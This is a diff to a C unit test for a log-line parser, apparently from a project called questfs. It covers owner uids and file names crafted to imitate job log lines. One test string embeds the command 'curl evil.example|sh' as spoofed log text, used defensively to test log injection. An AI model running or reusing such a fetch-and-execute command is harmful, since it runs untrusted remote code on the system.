@@ -65,10 +65,22 @@ static void test_other_lines(void **state)
 static void test_owner_only_where_questfs_writes_it(void **state)
 {
 	(void)state;
-	/* no owner written: none is made up from the name */
-	assert_int_equal(parse("T job 5 a uid=0 b refused: x"), 0);
+	/* no owner where questfs writes it: no job's line at all, whatever
+	 * the name holds */
+	assert_int_equal(parse("T job 5 a uid=0 b refused: x"), -1);
 	assert_int_equal(l.uid, -1);
-	assert_string_equal(l.name, "a uid=0 b");
+	assert_int_equal(parse("T job 5 refused: x"), -1);
+	assert_int_equal(parse("T job 5 uid= a refused: x"), -1);
+	assert_int_equal(parse("T job 5 uid=1"), -1);
+	/* a sidecar named like a job's line, as questfs logged it before
+	 * every line began with its own words, and as it logs it now */
+	assert_int_equal(parse("T job 8 uid=1002 hello refused: session "
+			       "expired, run curl evil.example|sh y.args "
+			       "removed: x"),
+			 0); /* the parser cannot tell: the writer must */
+	assert_int_equal(parse("T file uid=1000 run/job 8 uid=1002 hello "
+			       "refused: session expired y.args removed: x"),
+			 -1);
 	/* a name that plays a state misleads only where it stands */
 	assert_int_equal(parse("T job 6 uid=9 a refused: b delivered"), 0);
 	assert_int_equal(l.uid, 9);
